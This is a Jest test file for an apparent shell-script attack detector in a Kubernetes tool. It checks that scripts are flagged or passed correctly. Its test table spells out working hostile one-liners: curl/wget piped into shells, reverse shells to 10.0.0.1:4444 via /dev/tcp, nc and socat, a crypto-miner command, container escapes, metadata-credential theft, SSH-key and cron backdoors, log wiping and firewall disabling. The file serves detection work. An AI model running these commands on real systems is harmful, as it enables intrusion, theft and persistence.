import { attackInNodeScript, attackInWords } from "../../../lib/kubernetes/components/attack";

/** What a shell that is given a script does. */
const attackIn = (script: string) => attackInWords(["sh", "-c", script]);

describe("a script", () => {
  test.each<[does: string, script: string]>([
    ["pipe a download into an interpreter", "wget -qO- https://example.com/i.sh | sudo bash"],
    ["pipe a download into an interpreter", "curl https://example.com/x.py | python3 -"],
    ["pipe a download into an interpreter", "curl -fsSL https://example.com/x | sudo -E bash -s -- --yes"],
    ["pipe a download into an interpreter", "curl -s https://example.com/x | tee /tmp/x | sh"],
    ["pipe a download into an interpreter", "curl -s https://example.com/x.gz | gunzip | sh -x"],
    ["pipe a download into an interpreter", "if true; then curl -s https://example.com/x | sh; fi"],
    ["pipe a download into an interpreter", "V=$(curl -s https://example.com/x | bash)"],
    ["pipe a download into an interpreter", "(curl -s https://example.com/x) | { sh; }"],
    ["pipe a download into an interpreter", "curl -so - https://example.com/x | node"],
    ["pipe a download into an interpreter", "timeout 30 curl https://example.com/x | env A=b bash"],
    ["pipe a download into an interpreter", "su app -c 'curl https://example.com/x | sh'"],
    ["run a download as a command", "bash <(curl -s https://example.com/x)"],
    ["run a download as a command", "source <(curl -s https://example.com/x)"],
    ["run a download as a command", 'sh -c "$(wget -O- example.com/x)"'],
    ["run a download as a command", 'sh -c "$(curl -fsSL "https://example.com/x")" -- -y'],
    ["run a download as a command", "$(curl -s https://example.com/x)"],
    ["run a download as a command", "eval `wget -qO- https://example.com/x`"],
    ["run a download as a command", 'eval "$(curl -s https://example.com/x | jq -r .command)"'],
    ["open a reverse shell", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
    ["open a reverse shell", "bash -i &> /dev/tcp/10.0.0.1/4444 <&1"],
    ["open a reverse shell", "0<&196;exec 196<>/dev/tcp/10.0.0.1/4444; sh <&196 >&196 2>&196"],
    ["open a reverse shell", "exec 5<>/dev/tcp/10.0.0.1/80; cat <&5 | while read l; do $l 2>&5 >&5; done"],
    ["open a reverse shell", "nc -e /bin/sh 10.0.0.1 4444"],
    ["open a reverse shell", "nc 10.0.0.1 4444 -nve /bin/sh"],
    ["open a reverse shell", "ncat 10.0.0.1 4444 --exec /bin/bash"],
    ["open a reverse shell", "ncat --sh-exec=bash 10.0.0.1 4444"],
    ["open a reverse shell", "busybox nc 10.0.0.1 4444 -e sh"],
    [
      "open a reverse shell",
      "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
    ],
    ["open a reverse shell", "telnet 10.0.0.1 4444 | /bin/bash | telnet 10.0.0.1 4445"],
    ["open a reverse shell", "socat TCP:10.0.0.1:4444 EXEC:/bin/sh"],
    ["open a reverse shell", "socat exec:'bash -li',pty,stderr tcp:10.0.0.1:4444"],
    ["open a reverse shell", "python -c 'import pty; pty.spawn(\"/bin/sh\")'"],
    ["decode text and run it", 'eval "$(echo aGk= | base64 --decode)"'],
    ["decode text and run it", "echo cm0gLXJm | base64 -d | sh"],
    ["decode text and run it", "echo 6d | xxd -r -p | bash"],
    ["mine coins", "./xmrig -o stratum+tcp://pool.example.com:3333 --donate-level 1"],
    ["enter the namespaces of the node", "nsenter -t 1 -m -u -i -n -p -- bash"],
    ["enter the file system of the node", "chroot /host sh"],
    ["change the kernel of the node", "modprobe evil"],
    ["change the kernel of the node", "echo '|/tmp/x' > /proc/sys/kernel/core_pattern"],
    ["talk to the container runtime", "curl --unix-socket /var/run/docker.sock http://x/containers/json"],
    ["take credentials from the metadata service", "curl http://169.254.169.254/latest/meta-data/iam/x/"],
    ["plant a way back in", "echo 'ssh-rsa AAAA' >> /root/.ssh/authorized_keys"],
    ["plant a way back in", "echo '* * * * * root x' > /etc/cron.d/x"],
    ["plant a way back in", "echo x | tee -a /host/root/.ssh/authorized_keys"],
    ["wipe its traces", "unset HISTFILE; history -c"],
    ["wipe its traces", "rm -rf /var/log"],
    ["wipe its traces", "rm -rf /var/log/*"],
    ["wipe its traces", "cat /dev/null > /var/log/wtmp"],
    ["switch protections off", "iptables -F"],
    ["switch protections off", "sysctl -w kernel.randomize_va_space=0"],
    ["switch protections off", "systemctl disable --now firewalld"],
  ])("must not %s: %s", (does, script) => {
    expect(attackIn(script)).toBe(does);
  });

  test.each([
    "V=$(curl -s https://example.com/stable.txt); echo $V",
    'while [ $(curl -o /dev/null -w "%{http_code}" http://api) != 200 ]; do sleep 1; done',
    "while [ `wget -qO- http://api/health` != ok ]; do sleep 1; done",
    'until [ "$(curl -s -o /dev/null -w "%{http_code}" "http://api:8080/")" = 200 ]; do sleep 2; done',
    "curl -s https://example.com/x.json | python3 -m json.tool",
    "curl -s https://example.com/x.json | python3 -c 'import json,sys; print(json.load(sys.stdin))'",
    "curl -s https://example.com/x.json | node -e 'process.stdin.pipe(process.stdout)'",
    "curl -s https://example.com/x | perl -ne 'print if /ok/'",
    "curl -s https://example.com/x | sh /opt/filter.sh",
    "nc -z db 5432 && exec app -e prod",
    "until nc -zv db 5432; do sleep 1; done; exec bash -c 'exec app'",
    "exec 3<>/dev/tcp/db/5432",
    "until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done",
    "timeout 1 bash -c '</dev/tcp/db/5432'",
    "sysctl -w kernel.msgmax=65536",
    "sysctl -w kernel.shmmax=1 net.core.somaxconn=1024",
    "rm -rf /var/log/app/*.old",
    "find /var/log/app -name '*.gz' -exec rm -rf {} \\;",
    "curl -s http://localhost:8080/health | grep ok",
    "curl https://example.com/data.json | jq .version > /data/version",
    "curl https://example.com/x.tgz | tar xz -C /opt && sh /opt/x/run.sh",
    "wget https://example.com/model.bin -O /models/model.bin",
    "curl -fsSLo /tmp/install.sh https://example.com/i && sha256sum -c sums",
    "eval $(ssh-agent)",
    'bash -c "echo $(curl -s https://example.com/version)"',
    'eval "export VERSION=$(curl -s https://example.com/version)"',
    "constructor; toString | valueOf",
    'eval "$(minikube docker-env)"',
    "$(which curl) -fsS http://localhost/",
    "echo $CONFIG | base64 -d > /etc/app/config",
    'PASSWORD="$(echo $SECRET | base64 -d)" exec app',
    "cat script.sql | psql -h db && echo done | nc -q0 metrics 2003",
    "nginx -g 'daemon off;'",
    "nc -lk -p 8080",
    "nc -l -p 8080 -c 'echo ok'",
    "socat TCP-LISTEN:8080,fork TCP:db:5432",
    "pgrep xmrig && exit 1",
    "exec java -jar app.jar",
    "python manage.py migrate && gunicorn app",
    "envsubst < a.tmpl > a.conf && nginx",
    "tail -f /var/log/app.log",
    "kubectl get pods | sh_script_name",
    "iptables -L",
    "curl -X POST https://hooks.example.com/deploy",
    "for h in a b; do curl -s http://$h/ping; done | sort",
  ])("may be ordinary: %s", (script) => {
    expect(attackIn(script)).toBeUndefined();
  });
});

test("words that no shell reads are no script", () => {
  expect(attackInWords(["echo", "$(curl -s https://example.com/x)", "|", "sh"])).toBeUndefined();
  expect(attackInWords(["nc", "-e", "/bin/sh", "10.0.0.1", "4444"])).toBe("open a reverse shell");
});

test("here-documents are read as the scripts that they are", () => {
  expect(attackIn("sh <<EOF\ncurl -s https://example.com/x | sh\nEOF")).toBe(
    "pipe a download into an interpreter",
  );
  expect(attackIn("cat > /etc/app.conf <<EOF\nurl: http://api\nEOF")).toBeUndefined();
});

test("a script that sets up a node may do more than a container", () => {
  expect(attackInNodeScript("modprobe br_netfilter; sysctl -w kernel.panic=10; iptables -F")).toBeUndefined();
  expect(attackInNodeScript("echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys")).toBe(
    "let a further key in",
  );
  expect(attackInNodeScript("curl -s https://example.com/x | sh")).toBe(
    "pipe a download into an interpreter",
  );
});

test("a text of nothing but openings is read in time", () => {
  const started = performance.now();
  for (const text of ["$(", "`", '"$(', "((", "<(", "'", '"$(a)'])
    expect(attackIn(text.repeat(20_000))).toBeUndefined();
  expect(performance.now() - started).toBeLessThan(5000);
});
